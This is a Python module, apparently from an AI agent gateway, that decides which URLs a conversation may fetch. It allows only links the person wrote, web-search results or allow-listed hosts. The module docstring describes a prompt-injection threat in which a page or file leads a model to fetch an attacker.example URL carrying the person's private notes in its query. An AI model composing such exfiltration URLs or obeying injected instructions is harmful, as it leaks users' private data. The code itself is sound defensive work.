"""Which URLs a conversation may fetch under `fetch = "linked"` (no exfiltration by URL).

A model that reads private memory can be talked (by a web page, a file, a forwarded message)
into fetching `https://attacker.example/?q=<the person's notes>`: the request itself carries
the secret out, whatever the page answers. So by default a URL may be fetched only if it was
written by the person in this conversation, came back from a web search in this conversation,
or is on a host the owner allow-listed. The model never gets to compose a URL that leaves.

"The person's messages" are the user turns of a DM or group session as recorded by the turn
runner; a compaction summary (which the model wrote) does not count, and neither do the user
turns of heartbeat and scheduled-task sessions, whose prompts come from files and jobs the
model can write. Matching ignores the scheme, a default port, a trailing slash and the
fragment, nothing else: another path or query on the same host is another URL.
"""

from __future__ import annotations

import re
from collections import OrderedDict
from collections.abc import Iterable, Sequence
from pathlib import Path

from yarl import URL

from gateway.agent.conversation import Message
from gateway.agent.sessions import SessionStore, is_compaction_marker
from memory.layout import is_dm_session_key, is_group_session_key

__all__ = [
    "HostAllowlist",
    "SearchLedger",
    "SessionLinks",
    "link_key",
    "person_session",
    "urls_in_messages",
    "urls_in_text",
]

# A URL with a scheme, or a bare host with at least one dot and a letter TLD (people type
# "example.org/page" as often as the full form). Trailing punctuation is trimmed afterwards.
_URL = re.compile(
    r"""(?:https?://[^\s<>"'`]+)"""
    r"""|(?<![\w@./:-])(?:[a-z0-9](?:[a-z0-9-]{0,61}[a-z0-9])?\.)+[a-z]{2,24}"""
    r"""(?::\d{1,5})?(?:/[^\s<>"'`]*)?""",
    re.IGNORECASE,
)
_TRAILING = ".,;:!?'\"*_>"
DEFAULT_PORTS = {"http": 80, "https": 443}


def _trim(candidate: str) -> str:
    """Drop sentence punctuation after a URL, and a closing bracket it did not open."""
    while candidate:
        last = candidate[-1]
        if last in _TRAILING:
            candidate = candidate[:-1]
        elif last in ")]}":
            opening = {")": "(", "]": "[", "}": "{"}[last]
            if candidate.count(opening) < candidate.count(last):
                candidate = candidate[:-1]
            else:
                break
        else:
            break
    return candidate


def urls_in_text(text: str) -> list[str]:
    """Every URL-like string in `text`, trimmed (bare hosts get `https://`)."""
    found: list[str] = []
    for match in _URL.finditer(text):
        candidate = _trim(match.group(0))
        if not candidate:
            continue
        if "://" not in candidate:
            candidate = "https://" + candidate
        found.append(candidate)
    return found


def link_key(raw: str | URL) -> str | None:
    """The form two URLs are compared in; None for something that is not an http(s) URL."""
    try:
        url = raw if isinstance(raw, URL) else URL(raw.strip())
    except (ValueError, TypeError):
        return None
    if url.scheme not in ("http", "https") or not url.raw_host:
        return None
    host = url.raw_host.lower().rstrip(".")
    port = url.explicit_port
    if port is not None and port == DEFAULT_PORTS.get(url.scheme):
        port = None
    path = url.raw_path.rstrip("/") or ""
    query = f"?{url.raw_query_string}" if url.raw_query_string else ""
    return f"{host}{f':{port}' if port else ''}{path}{query}"


def person_session(session_key: str) -> bool:
    """Whether the user turns of this session are what people wrote (DMs and groups)."""
    return is_dm_session_key(session_key) or is_group_session_key(session_key)


def urls_in_messages(history: Iterable[Message]) -> set[str]:
    """The link keys of every URL in the person's own turns of a history."""
    keys: set[str] = set()
    for message in history:
        if message.role != "user" or is_compaction_marker(message):
            continue
        for url in urls_in_text(message.text):
            key = link_key(url)
            if key is not None:
                keys.add(key)
    return keys


class SearchLedger:
    """The URLs web_search returned per conversation, in this process (bounded, oldest out).

    After a restart the model searches again (results are cached briefly anyway); what the
    person wrote is read from the transcript and survives restarts.
    """

    def __init__(self, max_sessions: int = 1_000, max_urls: int = 500) -> None:
        self._by_session: OrderedDict[tuple[Path, str], OrderedDict[str, None]] = OrderedDict()
        self.max_sessions = max_sessions
        self.max_urls = max_urls

    def add(self, workspace: Path, session_key: str, urls: Iterable[str]) -> None:
        slot = (workspace, session_key)
        keys = self._by_session.setdefault(slot, OrderedDict())
        self._by_session.move_to_end(slot)
        for url in urls:
            key = link_key(url)
            if key is not None:
                keys[key] = None
                keys.move_to_end(key)
        while len(keys) > self.max_urls:
            keys.popitem(last=False)
        while len(self._by_session) > self.max_sessions:
            self._by_session.popitem(last=False)

    def __contains__(self, item: tuple[Path, str, str]) -> bool:
        workspace, session_key, key = item
        return key in self._by_session.get((workspace, session_key), ())


class HostAllowlist:
    """`[web] allow_hosts`: `example.org` (that host) or `*.example.org` (it and subdomains)."""

    def __init__(self, patterns: Sequence[str]) -> None:
        self.exact: set[str] = set()
        self.suffixes: list[str] = []
        for pattern in patterns:
            name = pattern.strip().lower().rstrip(".")
            if name.startswith("*."):
                self.suffixes.append(name[2:])
            elif name:
                self.exact.add(name)

    def allows(self, url: URL) -> bool:
        host = (url.raw_host or "").lower().rstrip(".")
        if host in self.exact:
            return True
        return any(host == suffix or host.endswith("." + suffix) for suffix in self.suffixes)

    def __bool__(self) -> bool:
        return bool(self.exact or self.suffixes)


class SessionLinks:
    """The URLs the person wrote in a conversation, read from its live history."""

    def __init__(self, sessions: SessionStore) -> None:
        self.sessions = sessions

    async def person_links(self, workspace: Path, session_key: str) -> set[str]:
        if not person_session(session_key):
            return set()
        session = await self.sessions.get(workspace, session_key)
        return urls_in_messages(session.history)
